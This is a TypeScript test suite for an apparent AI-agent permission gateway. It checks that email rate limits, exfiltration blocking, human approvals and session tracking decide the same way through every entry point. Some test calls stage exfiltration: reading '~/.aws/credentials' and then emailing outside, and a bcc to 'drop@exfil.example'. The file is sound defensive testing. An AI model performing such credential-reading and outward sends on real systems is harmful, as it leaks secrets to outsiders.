/**
 * The one decision path (docs/architecture.md "Decision path"): sessions hold the same way through
 * every entry point, over real servers on loopback.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { Readable } from 'node:stream'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { systemClock, type Clock } from '@permit0/approvals'
import { runGateway } from '../src/commands/gateway.ts'
import { runHook, type HookOptions } from '../src/commands/hook.ts'
import { loadHookEngine } from '../src/hook/load-engine.ts'
import type { ServerHandle } from '../src/server/start-server.ts'
import { createDatabase } from './helpers/database.ts'
import { call, created, openEventStream } from './helpers/http.ts'
import { emailPacksDir, REPO_ROOT, startTestServer } from './helpers/in-process.ts'

const T = Date.parse('2026-03-02T10:00:00Z')
/** Every entry point decides at the same instant: the burst's rate is then exactly its count. */
const frozen: Clock = { now: () => T, setTimeout: systemClock.setTimeout }
const ORG = 'acme.com'
const RATE_REASON = 'Email rate exceeds autonomous limit (>20/min)'
const EXFIL_REASON = 'Sensitive data read followed by external send in same session'

const dir = mkdtempSync(join(tmpdir(), 'permit0-decision-path-'))
afterAll(() => rmSync(dir, { recursive: true, force: true }))

/** 25 internal sends to distinct recipients in one session (distinct calls: no cache hit). */
const burst = Array.from({ length: 25 }, (_, i) => ({
  tool_name: 'gmail_send',
  parameters: { to: `colleague${i}@${ORG}`, subject: 'minutes', body: 'attached' },
}))
const EXPECTED_BURST = [...Array<string>(20).fill('allow'), ...Array<string>(5).fill('deny')]

type Verdictish = { permission: string; reason?: string }

async function hook(options: HookOptions, stdin: unknown): Promise<Verdictish> {
  const out: string[] = []
  const code = await runHook(options, {
    readStdin: async () => JSON.stringify(stdin),
    stdout: (t) => out.push(t),
    stderr: () => undefined,
    env: {},
    homeDir: dir,
    nowMs: () => T,
    ppid: 1,
    readFile: (p) => {
      try {
        return readFileSync(p, 'utf8')
      } catch {
        return undefined
      }
    },
    loadEngine: (o) => loadHookEngine(o),
  })
  expect(code).toBe(0)
  const h = (JSON.parse(out[0] as string) as { hookSpecificOutput: { permissionDecision: string; permissionDecisionReason?: string } }).hookSpecificOutput
  const permission = h.permissionDecision === 'ask' ? 'human' : h.permissionDecision
  return { permission, ...(h.permissionDecisionReason !== undefined && { reason: h.permissionDecisionReason }) }
}

const hookEvent = (sessionId: string, c: { tool_name: string; parameters: unknown }) => ({
  session_id: sessionId,
  cwd: '/home/dev/project',
  hook_event_name: 'PreToolUse',
  tool_name: c.tool_name,
  tool_input: c.parameters,
})

async function viaServe(url: string, sessionId: string, c: { tool_name: string; parameters: unknown }): Promise<Verdictish> {
  const r = await call(url, 'POST', '/api/v1/check', { ...c, metadata: { session_id: sessionId } })
  expect(r.status).toBe(200)
  return { permission: r.body.permission, ...(r.body.block_reason !== undefined && { reason: r.body.block_reason }) }
}

describe('the 25-call gmail_send burst in one session', { timeout: 180_000 }, () => {
  let server: ServerHandle
  beforeAll(async () => {
    server = await startTestServer({ orgDomain: ORG }, { clock: frozen })
  }, 60_000)
  afterAll(() => server?.close(), 60_000)

  it('gives the same verdicts through serve, gateway, the local hook and the remote hook (command and http)', async () => {
    const serve: Verdictish[] = []
    for (const c of burst) serve.push(await viaServe(server.url, 'burst-serve', c))

    const out: string[] = []
    const lines = burst.map((c) => JSON.stringify({ ...c, metadata: { session_id: 'burst-gateway' } })).join('\n')
    const code = await runGateway(
      { packsDir: emailPacksDir(), orgDomain: ORG },
      { input: Readable.from([`${lines}\n`]), stdout: (t) => out.push(t), stderr: () => undefined, now: () => T },
    )
    expect(code).toBe(0)
    const gateway = out.join('').trim().split('\n').map((l) => JSON.parse(l) as { permission: string; block_reason?: string })

    const local: Verdictish[] = []
    const dataDir = join(dir, 'local-data')
    for (const c of burst) local.push(await hook({ packsDir: emailPacksDir(), orgDomain: ORG, dataDir }, hookEvent('burst-local', c)))

    const remote: Verdictish[] = []
    for (const c of burst) remote.push(await hook({ remote: server.url }, hookEvent('burst-remote', c)))

    const http: Verdictish[] = []
    for (const c of burst) {
      const r = await call(server.url, 'POST', '/api/v1/hooks/claude-code', hookEvent('burst-http', c), { anonymous: true })
      const h = r.body.hookSpecificOutput as { permissionDecision: string; permissionDecisionReason?: string }
      http.push({ permission: h.permissionDecision, ...(h.permissionDecisionReason !== undefined && { reason: h.permissionDecisionReason }) })
    }

    expect(serve.map((v) => v.permission)).toEqual(EXPECTED_BURST)
    expect(gateway.map((v) => v.permission)).toEqual(EXPECTED_BURST)
    expect(local.map((v) => v.permission)).toEqual(EXPECTED_BURST)
    expect(remote.map((v) => v.permission)).toEqual(EXPECTED_BURST)
    expect(http.map((v) => v.permission)).toEqual(EXPECTED_BURST)
    for (const list of [serve, local, remote, http]) expect(list.slice(20).every((v) => v.reason?.includes(RATE_REASON) === true)).toBe(true)
    expect(gateway.slice(20).every((v) => v.block_reason === RATE_REASON)).toBe(true)

    // Another session is untouched by the burst.
    expect((await viaServe(server.url, 'burst-other', burst[0] as (typeof burst)[number])).permission).toBe('allow')
  })
})

describe('held-out session cases through serve', { timeout: 120_000 }, () => {
  let server: ServerHandle
  beforeAll(async () => {
    server = await startTestServer({ orgDomain: ORG, packsDir: resolve(REPO_ROOT, 'packs') })
  }, 60_000)
  afterAll(() => server?.close(), 60_000)

  const send = (extra: Record<string, string> = {}) => ({
    tool_name: 'gmail_send',
    parameters: { to: 'Bob <bob@partner.example>', subject: 'notes', body: 'see attached', ...extra },
  })

  it('read a secret, then send it out in the same session → denied; the same send elsewhere is asked', async () => {
    const read = { tool_name: 'Read', parameters: { file_path: '~/.aws/credentials' } }
    await viaServe(server.url, 'secret-1', read)
    expect(await viaServe(server.url, 'secret-1', send())).toEqual({ permission: 'deny', reason: EXFIL_REASON })
    expect((await viaServe(server.url, 'secret-2', send())).permission).toBe('human')
  })

  it('read a mail (sensitive data), then mail outside (hidden in bcc) → denied', async () => {
    await viaServe(server.url, 'mail-1', { tool_name: 'gmail_read', parameters: { message_id: 'm1' } })
    const r = await viaServe(server.url, 'mail-1', {
      tool_name: 'gmail_send',
      parameters: { to: `ann@${ORG}`, bcc: 'drop@exfil.example', subject: 'fwd', body: 'fyi' },
    })
    expect(r).toEqual({ permission: 'deny', reason: EXFIL_REASON })
  })

  it('a replayed fail-open read enters its session: the live send after it is denied', async () => {
    const replay = await call(server.url, 'POST', '/api/v1/audit/replay', {
      events: [
        {
          event_id: 'ev-read-1',
          occurred_at: new Date().toISOString(),
          tool_name: 'gmail_read',
          parameters: { message_id: 'm9' },
          metadata: { session_id: 'replayed-1' },
        },
      ],
    })
    expect(replay.body).toEqual({ accepted: 1, rejected: [] })
    expect(await viaServe(server.url, 'replayed-1', send())).toEqual({ permission: 'deny', reason: EXFIL_REASON })
  })

  it('refuses a metadata.session_id that is not a non-empty string of at most 256 characters (400 naming it)', async () => {
    for (const bad of [42, '', 'x'.repeat(257), null, ['a'], { id: 'a' }]) {
      const r = await call(server.url, 'POST', '/api/v1/check', { ...send(), metadata: { session_id: bad } })
      expect(r.status).toBe(400)
      expect(r.body.error.code).toBe('VALIDATION_FAILED')
      expect(r.body.error.message).toContain('metadata.session_id')
      expect(r.body.error.issues).toEqual([{ path: 'metadata.session_id', message: expect.any(String) }])
    }
    const action = await call(server.url, 'POST', '/api/v1/check_action', {
      action_type: 'email.send',
      source: 'app',
      parameters: { to: 'x' },
      metadata: { session_id: 7 },
    })
    expect(action.status).toBe(400)
    // the Claude Code http hook answers a refusal as a deny naming the field
    const viaHook = await call(server.url, 'POST', '/api/v1/hooks/claude-code', { ...hookEvent('x'.repeat(300), send()) }, { anonymous: true })
    expect(viaHook.body.hookSpecificOutput).toMatchObject({ permissionDecision: 'deny', permissionDecisionReason: expect.stringContaining('session_id') })
    // a replayed event already ran: an invalid session id is left out of the decision, never the audit
    const replay = await call(server.url, 'POST', '/api/v1/audit/replay', {
      events: [{ event_id: 'ev-bad-session', occurred_at: new Date().toISOString(), tool_name: 'gmail_read', parameters: { message_id: 'm1' }, metadata: { session_id: 42 } }],
    })
    expect(replay.body).toEqual({ accepted: 1, rejected: [] })
    // gateway: an error line naming the field, the stream goes on
    const out: string[] = []
    await runGateway(
      { packsDir: emailPacksDir(), orgDomain: ORG },
      {
        input: Readable.from([`${JSON.stringify({ ...send(), metadata: { session_id: '' } })}\n${JSON.stringify(send())}\n`]),
        stdout: (t) => out.push(t),
        stderr: () => undefined,
      },
    )
    const [refused, decided] = out.join('').trim().split('\n').map((l) => JSON.parse(l))
    expect(refused).toMatchObject({ line: 1, error: { code: 'DECISION_INVALID_SESSION_ID', message: expect.stringContaining('metadata.session_id') } })
    expect(decided).toMatchObject({ permission: 'human' })
    // exactly 256 characters is fine
    expect((await viaServe(server.url, 's'.repeat(256), send())).permission).toBe('human')
  })

  it('accepts a 2 MB fail-open replay batch (the client sends up to about 2 MB), audits every event', async () => {
    const body = 'y'.repeat(4_300)
    const events = Array.from({ length: 500 }, (_, i) => ({
      event_id: `big-${i}`,
      occurred_at: new Date().toISOString(),
      tool_name: 'gmail_send',
      parameters: { to: `colleague${i}@${ORG}`, subject: 'report', body },
      metadata: { session_id: `big-batch-${i % 10}` },
    }))
    const raw = JSON.stringify({ events, client_window_start: 'a', client_window_end: 'b' })
    expect(raw.length).toBeGreaterThan(2_000_000)
    const r = await call(server.url, 'POST', '/api/v1/audit/replay', undefined, { raw })
    expect(r.status).toBe(200)
    expect(r.body).toEqual({ accepted: 500, rejected: [] })
    // the general limit still holds elsewhere
    const check = await call(server.url, 'POST', '/api/v1/check', undefined, { raw: JSON.stringify({ ...send({ body: 'z'.repeat(1_100_000) }) }) })
    expect(check.status).toBe(413)
  })
})

describe('a parked call enters its session with the human decision', { timeout: 120_000 }, () => {
  let server: ServerHandle
  beforeAll(async () => {
    server = await startTestServer({ orgDomain: ORG, ui: true })
  }, 60_000)
  afterAll(() => server?.close(), 60_000)

  it('records nothing while parked, then the call with the reviewer’s permission', async () => {
    const events = await openEventStream(server.url)
    try {
      const parked = call(server.url, 'POST', '/api/v1/check', {
        tool_name: 'gmail_send',
        parameters: { to: 'bob@partner.example', subject: 'lunch', body: 'noon?' },
        metadata: { session_id: 'parked-1' },
      })
      const event = await events.next(created)
      if (event.type !== 'approval.created') throw new Error('expected a created event')
      expect((await server.store.sessions.load('parked-1', Date.now())).records).toEqual([])
      const decided = await call(server.url, 'POST', '/api/v1/approvals/decide', { approval_id: event.approval.approval_id, permission: 'allow', reviewer: 'ann' })
      expect(decided.status).toBe(200)
      expect((await parked).body).toMatchObject({ permission: 'allow', source: 'HumanReviewer' })
      const { records } = await server.store.sessions.load('parked-1', Date.now())
      expect(records).toHaveLength(1)
      expect(records[0]).toMatchObject({ actionType: 'email.send', permission: 'allow', parameters: { to: 'bob@partner.example' } })
    } finally {
      events.close()
    }
  })
})

const BASE_URL = process.env.PERMIT0_TEST_DATABASE_URL
describe.skipIf(BASE_URL === undefined)('two serve replicas on one PostgreSQL share sessions', { timeout: 180_000 }, () => {
  let db: Awaited<ReturnType<typeof createDatabase>>
  let a: ServerHandle
  let b: ServerHandle
  beforeAll(async () => {
    db = await createDatabase(BASE_URL as string, 'permit0_sessions_replicas')
    a = await startTestServer({ orgDomain: ORG, databaseUrl: db.url }, { clock: frozen })
    b = await startTestServer({ orgDomain: ORG, databaseUrl: db.url }, { clock: frozen })
  }, 120_000)
  afterAll(async () => {
    await a?.close()
    await b?.close()
    await db?.drop()
  }, 60_000)

  it('a read on replica A, the external send on replica B → denied; the burst split across both still stops at 21', async () => {
    await viaServe(a.url, 'shared-1', { tool_name: 'gmail_read', parameters: { message_id: 'm1' } })
    expect(await viaServe(b.url, 'shared-1', { tool_name: 'gmail_send', parameters: { to: 'eve@x.example', subject: 'a', body: 'b' } })).toEqual({
      permission: 'deny',
      reason: EXFIL_REASON,
    })
    const verdicts: string[] = []
    for (const [i, c] of burst.entries()) verdicts.push((await viaServe(i % 2 === 0 ? a.url : b.url, 'shared-burst', c)).permission)
    expect(verdicts).toEqual(EXPECTED_BURST)
  })
})
